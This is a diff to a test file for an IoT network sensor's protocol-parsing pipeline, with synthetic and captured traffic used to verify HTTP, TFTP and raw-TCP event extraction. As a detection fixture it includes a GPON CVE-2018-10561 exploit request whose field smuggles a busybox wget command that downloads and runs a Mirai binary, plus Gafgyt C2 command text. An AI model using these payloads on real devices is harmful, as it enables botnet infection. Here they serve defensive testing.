@@ -1,6 +1,7 @@
 // The pipeline with its protocol rooms: frames built with test/gen/packets.ts (synthetic, written here to
 // follow the published analyses cited per test) and real captures from ../shared/pcaps, compared with tshark.
 import { describe, expect, it } from 'vitest';
+import fc from 'fast-check';
 import { openCaptureFile } from '../../sensor/capture/file.js';
 import type { Frame } from '../../sensor/capture/frame.js';
 import type { WaakhondEvent } from '../../sensor/events.js';
@@ -132,6 +133,38 @@ describe('rooms: HTTP on every request of a keep-alive connection', () => {
       expect(pipeline.rooms.held()).toMatchObject({ http: 0 });
     });
   }
+  it('pipelined downloads cut at arbitrary segment sizes: the next head is found inside the segment that ends a body', () => {
+    for (const mss of [100, 536, 999, 1448, 4000]) {
+      const c = new Conn(40004, 80).c(concat(get(files[0][0]), get(files[1][0]), get(files[4][0])));
+      c.sSegments(concat(ok(files[0][1]), ok(files[1][1]), ok(files[4][1])), mss);
+      const { all } = run(c.frames);
+      expect(ofType(all, 'http_response')).toHaveLength(3);
+      expect(ofType(all, 'file_transfer').map((e) => [e.uri, e.elf_arch])).toEqual([0, 1, 4].map((i) => [files[i][0], files[i][2]]));
+    }
+  });
+  it('a request head cut anywhere by segment ends is read whole (some clients write "POST " alone)', () => {
+    const req = text(`POST /HNAP1/ HTTP/1.1\r\nHost: 10.0.0.1\r\nUser-Agent: ksoap\r\nContent-Length: 4\r\n\r\nabcd`);
+    for (const cut of [5, 12, 25, 40, req.length - 4]) {
+      const c = new Conn(40006, 80).c(req.subarray(0, cut)).c(req.subarray(cut));
+      const r = ofType(run(c.frames).all, 'http_request');
+      expect(r).toHaveLength(1);
+      // The body is reported only when it shares the head's segment (the last cut leaves it to the next one).
+      expect(r[0]).toMatchObject({ method: 'POST', uri: '/HNAP1/', host: '10.0.0.1', user_agent: 'ksoap', body: cut === req.length - 4 ? null : 'abcd' });
+    }
+  });
+  it('a gzip Content-Encoding of a web page is not an archive download', () => {
+    const gz = Uint8Array.of(0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3, 4);
+    const c = new Conn(40007, 80).c(get('/index.html'))
+      .s(concat(text(`HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: ${gz.length}\r\n\r\n`), gz))
+      .c(get('/fw.tgz')).s(concat(text(`HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${gz.length}\r\n\r\n`), gz));
+    expect(ofType(run(c.frames).all, 'file_transfer').map((e) => [e.uri, e.file_type])).toEqual([['/fw.tgz', 'archive']]);
+  });
+  it('a chunked response: the chunk size line is not the file', () => {
+    const elfBody = elfFile(32, 'big', 8, 300);
+    const c = new Conn(40005, 80).c(get('/bins/x.mips')).s(concat(
+      text(`HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${elfBody.length.toString(16)}\r\n`), elfBody, text('\r\n0\r\n\r\n')));
+    expect(ofType(run(c.frames).all, 'file_transfer')).toEqual([expect.objectContaining({ file_type: 'elf', elf_arch: 'mips', uri: '/bins/x.mips' })]);
+  });
   it('a request body in the same segment is the event\'s body (GPON-style POST exploit)', () => {
     // The GPON CVE-2018-10561 request Mirai variants send (Check Point / 360 Netlab analyses, May 2018).
     const body = 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/bins/mirai.mips+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0';
@@ -200,8 +233,9 @@ describe('rooms: raw TCP (no parser claimed the flow)', () => {
     expect(pipeline.stats.internal_errors).toBe(0);
   });
   it('a Gafgyt-style text C2 on a non-standard port: tcp_text both ways, from the first segments only', () => {
-    // Bashlite/Gafgyt: the bot connects to its C2 and gets text commands ("!* SCANNER ON"); PING/PONG keepalives
-    // (Unit 42 and Netlab write-ups of Gafgyt variants). Synthetic.
+    // Bashlite/Gafgyt: the bot connects to its C2 and reads text command lines in a loop ("!* SCANNER ON", the
+    // leaked source's "!*" prefix; PING answered PONG), as issue #11's capture shows and as described in
+    // "Extracting IoCs for Gafgyt" (its C2 loop and register message: https://archive.orkl.eu/f7dec0767e7b20e7b720801fcf5e9c2e17b65574.txt). Synthetic.
     const c = new Conn(40021, 666).s(text('!* SCANNER ON\r\n')).c(text('PONG\r\n'));
     for (let i = 0; i < 20; i++) c.s(text('PING\r\n')).c(text('PONG\r\n'));
     const t = ofType(run(c.frames).all, 'tcp_text');
@@ -248,6 +282,33 @@ describe('rooms: TFTP follows the exchange to the server\'s new port', () => {
     const { all, pipeline } = run(frames);
     expect(ofType(all, 'file_transfer').map((e) => e.src_port)).toEqual([20000 + TFTP_EXCHANGES + 49]);
     expect(pipeline.rooms.held().tftp).toBe(TFTP_EXCHANGES - 1);
+    // The drops are counted and reported in sensor_stats.tables_full.
+    expect(pipeline.rooms.dropped().tftp).toBe(50);
+    expect(ofType(all, 'sensor_stats').at(-1)!.tables_full).toContain('room:tftp');
+  });
+});
+
+describe('rooms: hostile segments', () => {
+  it('random payloads on the rooms\' ports and others never raise an internal error, and state stays bounded', () => {
+    const ports = [21, 23, 53, 80, 443, 666, 8080, 5353, 33333];
+    fc.assert(fc.property(
+      fc.array(fc.tuple(fc.constantFrom(...ports), fc.boolean(), fc.uint8Array({ minLength: 1, maxLength: 600 }), fc.constantFrom('', 'GET / HTTP/1.1\r\n', 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n', '\x7fELF', 'd1:ad2:id20:', 'USER x\r\n')), { maxLength: 40 }),
+      (segs) => {
+        const conns = new Map<number, Conn>();
+        const frames: Uint8Array[] = [];
+        for (const [port, fromClient, bytes, prefix] of segs) {
+          let c = conns.get(port);
+          if (!c) { c = new Conn(30000 + port, port); conns.set(port, c); }
+          const payload = concat(text(prefix), bytes);
+          if (fromClient) c.c(payload); else c.s(payload);
+          frames.push(udpFrame(BOT_MAC, GW_MAC, BOT, SRV, 30000 + port, port, payload));
+        }
+        for (const c of conns.values()) frames.push(...c.frames);
+        const { all, pipeline } = run(frames);
+        expect(pipeline.stats.internal_errors).toBe(0);
+        for (const n of Object.values(pipeline.rooms.held())) expect(n).toBe(0); // all ended with the capture
+        for (const e of all) if (e.type === 'tcp_text') expect(e.text.length).toBeLessThanOrEqual(512);
+      }), { numRuns: 150 });
   });
 });
 
@@ -295,6 +356,17 @@ describeShared('rooms: real captures', () => {
     expect(client.slice(0, 5)).toEqual(['USER', 'NICK', 'USERHOST', 'MODE', 'JOIN']);
     expect(t.every((e) => e.dst_port === 8000 || e.src_port === 8000)).toBe(true);
     expect(t.filter((e) => e.from === 'client').length).toBeLessThanOrEqual(TCP_TEXT_SEGMENTS);
+  });
+  it('D-LinkSiren Setup-C-1: the siren fetching its agent binary from S3 is one file_transfer of a MIPS ELF, paired with its request', async () => {
+    const all = await events('iot-sentinel/D-LinkSiren/Setup-C-1-STA.pcap');
+    // tshark -Y http.request: frames 25, 159, 216, 268 (the last one the firmware agent); -Y http.response:
+    // frame 493 is "200 binary/octet-stream", Content-Length 196060.
+    expect(ofType(all, 'http_request').map((e) => e.host)).toEqual(['wrpd.dlink.com', 'tzinfo.dch.dlink.com', 'api.dch.dlink.com', 's3-us-west-2.amazonaws.com']);
+    const ft = ofType(all, 'file_transfer');
+    expect(ft).toEqual([expect.objectContaining({
+      protocol: 'http', receiver: 'client', file_type: 'elf', elf_arch: 'mips', elf_bits: 32, host: 's3-us-west-2.amazonaws.com',
+      uri: '/static-us-west.dch.dlink.com/firmware/agent/DCH-S220/D-Link-DCH-S220-1.7.5-AX', content_type: 'binary/octet-stream', src_ip: '10.10.10.39',
+    })]);
   });
   it('bittorrent_utp.pcap: the 3 DHT get_peers queries tshark\'s BT-DHT heuristic finds', async () => {
     const d = ofType(await events('ndpi/pcap/bittorrent_utp.pcap'), 'bt_dht');
